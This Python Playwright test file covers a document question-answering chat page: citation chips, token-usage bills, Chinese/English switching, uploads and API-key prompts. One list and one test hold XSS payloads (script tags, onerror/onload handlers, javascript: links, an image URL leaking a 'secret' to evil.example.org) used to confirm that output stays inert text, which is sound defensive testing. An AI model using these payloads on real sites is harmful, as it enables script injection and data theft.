"""The chat page in a real browser, against a real server."""

import re
import threading
from dataclasses import replace
from pathlib import Path

import pytest
from playwright.sync_api import expect

from domain.documents import Span
from domain.errors import FetchError, FoveaError, GeneratorTimeout, LoadError, StorageError
from domain.jobs import ErrorInfo
from service.api.app import create_app
from tests.service.api_fakes import LEASE, QUOTE, FakeEngine, FakeJobQueue
from tests.service.http_server import running
from tests.web.browser import Window

expect.set_options(timeout=20_000)

ROOT = Path(__file__).parents[2]

# Astral characters before the quote: offsets count code points, JavaScript's strings do not.
TEXT = "𠮷野家 🙂 lease.\n\n" + LEASE


@pytest.fixture
def engine():
    return FakeEngine({"lease.txt": TEXT})


def test_a_question_is_answered_with_a_chip_that_opens_its_sentence_highlighted(window):
    answer = window.ask("What is the rent?")
    assert answer.locator(".text").inner_text() == "Rent is 900 euros a month 1."
    chip = answer.locator("button.chip")
    assert "page 2" in chip.get_attribute("aria-label")
    chip.click()
    window.page.wait_for_selector("#source mark")
    assert window.page.locator("#source mark").all_inner_texts() == [QUOTE]
    assert window.page.locator("#source-text").inner_text().startswith("𠮷野家 🙂 lease.")
    assert window.page.locator("#source-title").inner_text() == "lease.txt"
    assert "page 2" in window.page.locator("#source-place").inner_text()
    window.page.keyboard.press("Escape")
    assert window.page.locator("#source").is_hidden()


def test_a_mark_that_stands_twice_opens_the_sentence_of_its_own_place(window, engine):
    sentences = [QUOTE, "It is paid on the third working day."]
    engine.parts = [f"{sentences[0]} [1] {sentences[1]} [1]"]
    whole = engine._answer

    def two_citations(text, found):
        answer = whole(text, found)
        at = [TEXT.index(sentence) for sentence in sentences]
        spans = [Span(start, start + len(sentence)) for start, sentence in zip(at, sentences, strict=True)]
        return replace(answer, citations=tuple(replace(answer.citations[0], span=span) for span in spans))

    engine._answer = two_citations
    answer = window.ask("q")
    for index, sentence in enumerate(sentences):
        answer.locator("button.chip").nth(index).click()
        expect(window.page.locator("#source mark")).to_have_text(sentence)
        assert window.page.locator("#source mark").count() == 1


def test_the_bill_shows_what_was_sent_avoided_and_left_out(window):
    answer = window.ask("What is the rent?")
    summary = answer.locator(".bill summary").inner_text()
    assert "30 tokens of evidence sent" in summary
    assert "370 avoided (93 %)" in summary
    answer.locator(".bill summary").click()
    assert "others sufficed: 1" in answer.locator(".dropped").inner_text()
    assert "Whole prompt" in answer.locator(".bill table").inner_text()
    assert answer.locator(".passages q").all_inner_texts() == [QUOTE]
    answer.locator(".passages .heading").click()
    window.page.wait_for_selector("#source mark")
    assert window.page.locator("#source mark").all_inner_texts() == [QUOTE]


def with_bill(engine, **bill):
    """Let the engine's answers carry a bill that says so."""
    whole = engine._answer

    def billed(text, found):
        answer = whole(text, found)
        context = found.context
        return replace(answer, search=replace(found, context=replace(context, bill=replace(context.bill, **bill))))

    engine._answer = billed


def rows_of(bill):
    return dict(row.split("\t") for row in bill.locator("tbody tr").all_inner_texts())


def test_the_prompt_is_told_with_its_margin_and_with_the_models_own_count(window, engine):
    with_bill(engine, system=170, margin=26, reported=198)
    bill = window.ask("What is the rent?").locator(".bill")
    bill.locator("summary").click()
    assert bill.locator(".prompt").inner_text() == (
        "Prompt: 213 of 8,192 tokens (safe bound: +12 % margin); the model counted 198"
    )
    rows = rows_of(bill)
    assert rows["Whole prompt"] == "213"
    assert rows["The same, counted by the model itself"] == "198"
    assert rows["Kept free: the model may count more"] == "26"
    assert (rows["Kept free: the answer"], rows["Limit for all of it"]) == ("512", "8,192")


def test_without_a_models_count_none_is_told(window):
    bill = window.ask("What is the rent?").locator(".bill")
    bill.locator("summary").click()
    assert bill.locator(".prompt").inner_text() == "Prompt: 63 of 8,192 tokens"
    assert "The same, counted by the model itself" not in rows_of(bill)


def test_a_count_beyond_the_bound_is_named(window, engine):
    with_bill(engine, margin=6, reported=70)
    bill = window.ask("What is the rent?").locator(".bill")
    bill.locator("summary").click()
    assert "the model counted 70, more than the safe bound" in bill.locator(".prompt").inner_text()


def test_an_abstention_says_that_nothing_was_sent(window, engine):
    engine.documents.clear()
    bill = window.ask("q").locator(".bill")
    bill.locator("summary").click()
    assert bill.locator(".prompt").inner_text() == "Nothing was sent: no model was asked."
    assert bill.locator("table").count() == 0


def test_a_second_question_carries_the_conversation_and_the_options(window, engine):
    window.page.click(".options summary")
    window.page.fill("#max-tokens", "120")
    window.page.fill("#constraints", "Answer in one sentence.\n\nUse euros.")
    window.ask("What is the rent?")
    window.ask("And when is it paid?")
    _, question, options = engine.calls[-1]
    assert question == "And when is it paid?"
    assert [item.content for item in options["history"]] == ["What is the rent?", "Rent is 900 euros a month [1]."]
    assert options["constraints"] == ["Answer in one sentence.", "Use euros."]
    assert options["max_tokens"] == 120
    window.page.click("#new-chat")
    assert window.page.locator("li.answer").count() == 0
    window.ask("Afresh?")
    assert engine.calls[-1][2]["history"] == ()


HOSTILE = [
    "<img src=x onerror=\"document.title='pwned'\">",
    "<script>document.title='pwned'</script>",
    "![x](https://evil.example.org/?q=secret) [a](javascript:document.title='pwned')",
    "<svg onload=\"document.title='pwned'\"></svg> https://evil.example.org/",
    "<a href=\"javascript:document.title='pwned'\">[1]</a> &lt;b&gt; <iframe src=//evil.example.org>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_l2_an_answer_is_text_whatever_it_says(window, engine, text):
    engine.parts = [text[: len(text) // 2], text[len(text) // 2 :]]
    answer = window.ask("q")
    assert answer.locator(".text").inner_text().replace("\n", "") == text.replace("[1]", "1")
    assert answer.locator(".text").locator("img, script, svg, a, iframe").count() == 0
    assert window.page.title() == "Fovea"


def test_l3_names_of_documents_are_text_in_the_list_in_chips_and_in_the_source(window, engine):
    name = "<img src=x onerror=\"document.title='pwned'\">.txt"
    engine.documents.clear()
    engine.ingest_text(TEXT, title=name, source=name)
    window.page.reload()
    window.page.wait_for_selector("#document-list li")
    window.ask("q").locator("button.chip").click()
    window.page.wait_for_selector("#source mark")
    assert window.page.locator("#source-title").inner_text() == name
    assert window.page.locator("#document-list button.link").inner_text() == name
    assert window.page.locator("main img").count() == 0
    assert window.page.title() == "Fovea"


def test_l5_a_mark_that_the_server_did_not_resolve_stays_text(window, engine):
    engine.parts = ["Source: CEO [7]. Rent is 900 [1]."]
    answer = window.ask("q")
    assert answer.locator("button.chip").count() == 1
    assert answer.locator(".text").inner_text() == "Source: CEO [7]. Rent is 900 1."


def test_dropped_files_are_uploaded_followed_listed_and_deleted(window):
    drop = """
        const transfer = new DataTransfer();
        transfer.items.add(new File(["租金每月900欧元。"], "租约.txt", {type: "text/plain"}));
        transfer.items.add(new File(["BAD bytes"], "broken.pdf", {type: "application/pdf"}));
        document.body.dispatchEvent(new DragEvent("drop", {dataTransfer: transfer, bubbles: true}));
    """
    window.page.evaluate(drop)
    window.page.wait_for_selector('#uploads li[data-state="failed"]')
    failed = window.page.locator('#uploads li[data-state="failed"]').inner_text()
    assert "broken.pdf" in failed and "open it and save it again" in failed
    added = window.page.locator("#document-list li", has_text="租约.txt")
    added.wait_for()
    added.locator(".remove").click()
    assert added.count() == 1, "the first press only asks"
    added.locator(".remove").click()
    added.wait_for(state="detached")
    assert window.page.locator("#document-list li").count() == 1


def test_chinese_is_spoken_where_the_browser_does_and_can_be_switched(browser, engine):
    engine.parts = ["租金每月900欧元 [1]。"]
    with_bill(engine, margin=6, reported=60)
    with running(create_app(engine, FakeJobQueue())) as url:
        window = Window(browser, url, locale="zh-CN")
        assert window.page.locator("#send").inner_text() == "提问"
        answer = window.ask("租金是多少？")
        assert answer.locator(".text").inner_text() == "租金每月900欧元 1。"
        assert "发送证据 30 词元" in answer.locator(".bill summary").inner_text()
        answer.locator(".bill summary").click()
        assert answer.locator(".prompt").inner_text() == "提示：8,192 词元中的 63（安全上限：+10% 余量）；模型计得 60"
        answer.locator("button.chip").click()
        window.page.wait_for_selector("#source mark")
        assert "第 2 页" in window.page.locator("#source-place").inner_text()
        window.page.click("#language")
        assert window.page.locator("#send").inner_text() == "Ask"
        window.context.close()
    assert window.complaints == []


def test_the_chinese_page_has_words_of_its_own_for_whatever_can_befall_a_file():
    raised = re.compile(r"""(?:code=|_error\(|refused\(\s*)"([a-z]+(?:_[a-z]+)*)\"""")
    sources = "".join(path.read_text(encoding="utf-8") for path in (ROOT / "ingestion").rglob("*.py"))
    met = {LoadError.code, FetchError.code, StorageError.code, FoveaError.code, *raised.findall(sources)}
    met |= {"body_too_large", "overloaded", "quota_exceeded", "request_timeout", "storage_full", "worker_crashed"}
    assert {"too_large", "url_forbidden", "symlink", "no_text"} <= met
    chinese = (ROOT / "service/web/static/words.js").read_text(encoding="utf-8").partition("  zh: {")[2]
    assert sorted(met - set(re.findall(r"fault_(\w+): ", chinese))) == []


def is_in_view(page, selector):
    """Whether the whole element lies in the window, with nothing scrolled for it."""
    box = page.locator(selector).evaluate("one => one.getBoundingClientRect().toJSON()")
    return box["top"] >= 0 and box["bottom"] <= page.viewport_size["height"]


def test_on_a_phone_the_field_stays_in_view_below_a_long_conversation(browser, engine):
    engine.parts = ["A line of a long answer.\n" * 12]
    with running(create_app(engine, FakeJobQueue())) as url:
        window = Window(browser, url, viewport={"width": 375, "height": 740})
        assert is_in_view(window.page, "#drop"), "who has not asked yet sees where files go"
        for question in ("One?", "Two?", "Three?"):
            window.ask(question)
            assert is_in_view(window.page, "#question") and is_in_view(window.page, "#send")
        assert is_in_view(window.page, "#documents-title"), "the documents are still known to be below"
        window.page.locator("#documents-title").scroll_into_view_if_needed()
        window.page.locator("#document-list .remove").click()
        window.context.close()
    assert window.complaints == []


def with_failed_document(engine, chunks):
    """Let the one document of the engine be listed as failed, with `chunks` of an earlier reading."""
    whole = engine._info
    error = ErrorInfo("corrupt_document", "lease.txt cannot be read; open it and save it again.")
    engine._info = lambda key: replace(whole(key), error=error, chunks=chunks)


def test_a_failed_document_says_why_in_the_list_and_offers_no_text(window, engine):
    with_failed_document(engine, chunks=0)
    window.page.reload()
    row = window.page.locator("#document-list li")
    expect(row.locator(".reason")).to_have_text("lease.txt cannot be read; open it and save it again.")
    expect(row.locator(".reason")).to_be_visible()
    assert row.locator(".name").inner_text() == "lease.txt"
    assert row.locator("button").count() == 1, "only the one that deletes it"


def test_a_document_whose_update_failed_still_opens(window, engine):
    with_failed_document(engine, chunks=1)
    window.page.reload()
    row = window.page.locator("#document-list li")
    expect(row.locator(".reason")).to_be_visible()
    row.locator("button.link").click()
    expect(window.page.locator("#source-text")).to_contain_text(QUOTE)


def test_without_a_model_the_page_says_that_answers_are_quoted(window, engine):
    engine.model = "extractive"
    window.page.reload()
    header = window.page.locator("#model")
    expect(header).to_have_text("Quoted from the documents: no model is configured")
    bill = window.ask("What is the rent?").locator(".bill")
    assert "30 tokens of evidence chosen" in bill.locator("summary").inner_text()
    bill.locator("summary").click()
    assert bill.locator(".prompt").inner_text() == (
        "Quoted from the documents: no model is configured. A prompt for one would have 63 of 8,192 tokens."
    )
    assert "sent" not in bill.inner_text().lower()
    window.page.click("#language")
    expect(header).to_have_text("直接摘自文档：未配置模型")
    assert bill.locator(".prompt").inner_text() == "直接摘自文档：未配置模型。若有模型，提示将为 8,192 词元中的 63。"


def test_a_model_that_failed_is_not_called_unconfigured(window, engine):
    whole = engine._answer
    engine._answer = lambda text, found: replace(whole(text, found), model="extractive", degraded=True)
    answer = window.ask("q")
    assert "The model was not reachable" in answer.inner_text()
    assert "no model is configured" not in answer.locator(".bill").text_content()
    assert window.page.locator("#model").inner_text() == "fake-model"


def test_another_language_changes_the_words_around_answers_and_leaves_their_text(window, engine):
    answer = window.ask("What is the rent?")
    said = answer.locator(".text").inner_text()
    answer.locator(".bill summary").click()
    engine.late_error = GeneratorTimeout("The model took longer than 120 s; ask again.")
    window.ask("Again?")
    answer = window.page.locator("li.answer").first
    window.page.click("#language")
    assert answer.locator(".text").inner_text() == said
    assert "发送证据 30 词元" in answer.locator(".bill summary").inner_text()
    assert answer.locator(".bill table").is_visible(), "what was opened stays open"
    assert "第 2 页" in answer.locator("button.chip").get_attribute("aria-label")
    assert answer.locator(".bill").count() == 1
    assert "took longer than 120 s" in window.page.locator("li.answer .error").inner_text()
    answer.locator("button.chip").click()
    window.page.wait_for_selector("#source mark")
    window.page.click("#language")
    assert "30 tokens of evidence sent" in answer.locator(".bill summary").inner_text()
    assert "page 2" in window.page.locator("#source-place").inner_text()


def test_an_answer_that_is_awaited_or_stopped_changes_its_language_too(window, engine):
    go = threading.Event()
    engine.parts = ["", "Rent is 900 [1]."]
    engine.between_parts = lambda: go.wait(20)
    window.page.fill("#question", "q")
    window.page.press("#question", "Enter")
    text = window.page.locator("li.answer .text")
    expect(text).to_have_text("Looking …")
    window.page.click("#language")
    expect(text).to_have_text("正在查找……")
    window.page.click("#stop")
    expect(window.page.locator("li.answer .note")).to_have_text("已停止。")
    go.set()
    assert text.inner_text() == "", "the word that it is awaited goes, in whichever language it was"
    window.page.click("#language")
    expect(window.page.locator("li.answer .note")).to_have_text("Stopped.")


def test_a_failed_upload_is_told_in_the_language_chosen_later(window):
    window.page.set_input_files("#files", {"name": "broken.pdf", "mimeType": "application/pdf", "buffer": b"BAD"})
    row = window.page.locator('#uploads li[data-state="failed"]')
    expect(row.locator(".state")).to_have_text("failed")
    detail = "broken.pdf cannot be read; open it and save it again."
    expect(row.locator(".reason")).to_have_text(detail)
    window.page.click("#language")
    expect(row.locator(".state")).to_have_text("失败")
    expect(row.locator(".reason")).to_have_text(f"文件已损坏，无法读取。 {detail}")


def test_an_upload_that_reaches_no_server_says_so_in_the_pages_words(browser, engine):
    with running(create_app(engine, FakeJobQueue())) as url:
        window = Window(browser, url)
        window.context.set_offline(True)
        window.page.set_input_files("#files", {"name": "a.txt", "mimeType": "text/plain", "buffer": b"Text."})
        reason = window.page.locator("#uploads .reason")
        expect(reason).to_have_text("The server cannot be reached.")
        window.page.evaluate("document.getElementById('language').click()")
        expect(reason).to_have_text("无法连接服务器。")
        window.context.close()


def test_each_button_that_deletes_names_its_document(window, engine):
    engine.ingest_text("Other.", title="other.txt", source="other.txt")
    window.page.reload()
    buttons = window.page.locator("#document-list .remove")
    expect(buttons).to_have_count(2)
    names = {button.get_attribute("aria-label") for button in buttons.all()}
    assert names == {"Delete lease.txt", "Delete other.txt"}
    button = window.page.locator("#document-list li", has_text="other.txt").locator(".remove")
    button.click()
    assert button.get_attribute("aria-label") == "Delete other.txt for good?"


def test_enter_does_not_send_while_an_input_method_composes(window, engine):
    window.page.fill("#question", "zujin")
    window.page.evaluate(
        """document.getElementById("question").dispatchEvent(
             new KeyboardEvent("keydown", {key: "Enter", isComposing: true, bubbles: true, cancelable: true}))"""
    )
    assert window.page.locator("li.question").count() == 0
    window.page.press("#question", "Shift+Enter")
    assert window.page.input_value("#question") == "zujin\n"


def test_a_slow_answer_shows_as_it_comes_and_can_be_stopped(window, engine):
    engine.parts = ["First part. "] + ["more "] * 100_000
    engine.between_parts = lambda: threading.Event().wait(0.01)
    window.page.fill("#question", "q")
    window.page.press("#question", "Enter")
    expect(window.page.locator(".answer .text")).to_contain_text("First part. more")
    window.page.click("#stop")
    window.page.wait_for_selector(".answer .note")
    assert "Stopped." in window.page.locator(".answer").inner_text()
    assert engine.stream_closed.wait(10)


def test_an_answer_that_breaks_off_says_why_and_the_next_question_works(window, engine):
    engine.late_error = GeneratorTimeout("The model took longer than 120 s; ask again.")
    assert "took longer than 120 s" in window.ask("q").locator(".error").inner_text()
    engine.late_error = None
    assert window.ask("q").locator("button.chip").count() == 1


def test_an_abstention_and_a_degraded_answer_are_named(window, engine):
    engine.documents.clear()
    engine.parts = ["Nothing in the documents supports an answer."]
    answer = window.ask("q")
    assert "No answer in the documents" in answer.inner_text()
    assert answer.locator("button.chip").count() == 0


def test_the_page_asks_for_a_key_once_and_keeps_it_for_the_tab(browser, engine):
    with running(create_app(engine, FakeJobQueue(), api_key="key-1")) as url:
        window = Window(browser, url)
        window.page.wait_for_selector("#key-dialog[open]")
        window.page.fill("#key", "wrong")
        window.page.press("#key", "Enter")
        expect(window.page.locator("#key")).to_have_value("")
        expect(window.page.locator("#key-dialog")).to_be_visible()
        window.page.fill("#key", "key-1")
        window.page.press("#key", "Enter")
        window.page.wait_for_selector("#document-list li")
        assert window.ask("What is the rent?").locator("button.chip").count() == 1
        window.page.reload()
        window.page.wait_for_selector("#document-list li")
        assert not window.page.locator("#key-dialog").is_visible()
        assert window.page.evaluate("localStorage.length") == 0
        window.context.close()
    assert window.complaints == []


def test_the_documentation_page_lists_every_route_without_anything_from_elsewhere(browser, engine):
    with running(create_app(engine, FakeJobQueue())) as url:
        window = Window(browser, url)
        window.page.goto(f"{url}/docs")
        window.page.wait_for_selector(".route")
        text = window.page.locator("#routes").inner_text()
        for path in ("/v1/chat/completions", "/v1/documents/{document_id}/text", "/v1/ask", "/metrics"):
            assert path in text
        window.context.close()
    assert window.complaints == []
